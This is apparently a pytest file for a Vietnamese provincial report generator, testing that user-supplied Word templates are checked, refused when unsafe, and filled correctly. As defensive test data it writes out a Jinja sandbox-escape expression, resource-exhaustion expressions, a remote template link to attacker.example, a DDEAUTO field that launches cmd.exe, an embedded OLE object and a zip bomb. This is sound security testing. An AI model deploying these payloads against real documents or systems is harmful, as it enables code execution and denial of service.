"""A province's own Word template: the default one round-trips, a bad one is refused with what to
fix, its Jinja cannot reach Python, and the report fills it."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from docx import Document

from cchc_metrics import reports, views
from cchc_metrics.ingest.problems import ScoreFileError
from cchc_metrics.metrics import unit_table
from cchc_metrics.reports.template import PLACEHOLDERS, check_template, default_template
from cchc_metrics.sample.demo import build_demo_scores


def edited(template: bytes, change) -> bytes:
    """The template with its document.xml changed as a person would in Word."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/document.xml":
                data = change(data.decode("utf-8")).encode("utf-8")
            dst.writestr(item, data)
    return out.getvalue()


def refused(data: bytes) -> list[tuple[str, object]]:
    with pytest.raises(ScoreFileError) as exc:
        check_template(data, "mau.docx")
    return [(p.code, p.value) for p in exc.value.problems]


def test_the_default_template_has_every_placeholder_and_is_accepted():
    template = default_template()
    text = "\n".join(p.text for p in Document(io.BytesIO(template)).paragraphs)
    assert "{{p noi_dung }}" in text
    assert check_template(template, "mau.docx") == template


def test_a_template_filled_with_a_report_holds_its_letterhead_and_tables():
    scores = build_demo_scores()
    units = unit_table(scores)
    view = views.View(year=2024, level="district")
    report = reports.build("block", units, scores, view)
    template = edited(default_template(), lambda xml: xml.replace(
        "{{ quoc_hieu }}", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM (mẫu của tỉnh)"))
    head = reports.Letterhead(issuing_body="Sở Nội vụ", signer_title="KT. GIÁM ĐỐC\nPHÓ GIÁM ĐỐC",
                              signer_name="Trần Thị B <&>", recipients=["- UBND tỉnh;"])
    doc = Document(io.BytesIO(reports.to_docx(report, head, template=check_template(
        template), images=False)))
    masthead = [c.text for c in doc.tables[0].rows[0].cells]
    assert "SỞ NỘI VỤ" in masthead[0] and "(mẫu của tỉnh)" in masthead[1]
    signature = doc.tables[-1].rows[0].cells[1].text
    assert "KT. GIÁM ĐỐC\nPHÓ GIÁM ĐỐC" in signature and "Trần Thị B <&>" in signature
    ranking = views.ranking_table(units, view, history=False, note_column=False)
    want = [list(ranking.columns), *reports.cell_texts(ranking, "vi")]
    assert any([[c.text for c in r.cells] for r in t.rows] == want for t in doc.tables)


def test_a_missing_or_unknown_placeholder_is_named():
    template = edited(default_template(), lambda xml: xml.replace("{{ so_hieu }}", "Số: 12")
                      .replace("{{ nguoi_ky }}", "{{ ten_nguoi_ky }}"))
    assert refused(template) == [("template_missing", "so_hieu"),
                                 ("template_missing", "nguoi_ky"),
                                 ("template_unknown", "ten_nguoi_ky")]


def test_the_body_placeholder_inside_a_sentence_is_refused():
    template = edited(default_template(), lambda xml: xml.replace(
        "{{p noi_dung }}", "Nội dung: {{ noi_dung }}"))
    assert refused(template) == [("template_body", None)]


@pytest.mark.parametrize("expression", [
    "{{ tieu_de.__class__.__mro__[1].__subclasses__() }}",  # Python's internals
    "{{ so_hieu * 30000000 }}",  # a string of hundreds of megabytes
    "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
    "{{ so_hieu|upper }}"])
def test_a_template_holds_placeholders_only(expression):
    """No calculations, filters, loops or globals: refused before anything is rendered."""
    import time

    template = edited(default_template(), lambda xml: xml.replace(
        "{{ nguoi_ky }}", "{{ nguoi_ky }}" + expression.replace("<", "&lt;")))
    start = time.perf_counter()
    found = refused(template)
    assert found[0][0] == "template_expression" and time.perf_counter() - start < 5


def with_member(template: bytes, name: str, body: bytes, rels: str | None = None) -> bytes:
    """The template with a part added (and, with `rels`, a relationship file written)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr(name, body)
    return out.getvalue()


def test_nothing_from_outside_a_remote_template_objects_or_dde_fields():
    remote = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
              b'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
              b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
              b'Target="file://attacker.example/share/t.dotm" TargetMode="External"/>'
              b'</Relationships>')
    template = with_member(default_template(), "word/_rels/settings.xml.rels", remote)
    assert refused(template)[0][0] == "template_outside"
    dde = edited(default_template(), lambda xml: xml.replace(
        "{{ nguoi_ky }}", '{{ nguoi_ky }}</w:t></w:r></w:p><w:p><w:fldSimple '
        'w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe x"/></w:p><w:p><w:r><w:t>'))
    assert refused(dde)[0][0] == "template_outside"
    embedded = with_member(default_template(), "word/embeddings/oleObject1.bin", b"x")
    assert refused(embedded)[0][0] == "template_outside"


def test_what_is_not_a_word_document_is_refused():
    assert refused(b"PK\x03\x04not a zip at all") == [("corrupt", None)]
    assert refused("Tên đơn vị;Điểm\n".encode()) == [("template_not_docx", None)]
    from tests import builders as B

    assert refused(B.xlsx({"S": [["a"]]})) == [("template_not_docx", None)]
    # a zip bomb: a member that expands far beyond the compression ratio allowed
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", b"<" + b" " * 50_000_000)
    assert refused(out.getvalue())[0][0] == "zip_bomb"


def test_every_placeholder_is_documented_in_both_languages():
    for key, msg in PLACEHOLDERS.items():
        assert re.fullmatch(r"[a-z_]+", key) and msg.vi and msg.en


def test_an_appendix_in_a_portrait_template_stays_within_its_margins():
    """The appendix is laid out landscape; a province's portrait template gets tables as wide
    as its own text, not wider."""
    scores = build_demo_scores()
    units = unit_table(scores)
    report = reports.build("appendix", units, scores, views.View(year=2024, level="commune"))
    doc = Document(io.BytesIO(reports.to_docx(report, reports.Letterhead(),
                                              template=default_template())))
    section = doc.sections[-1]
    text_twips = (section.page_width - section.left_margin - section.right_margin) / 635
    widths = [int(t._tbl.tblPr.find(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}tblW").get(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}w"))
        for t in doc.tables[1:-1]]
    assert widths and max(widths) <= text_twips + 1
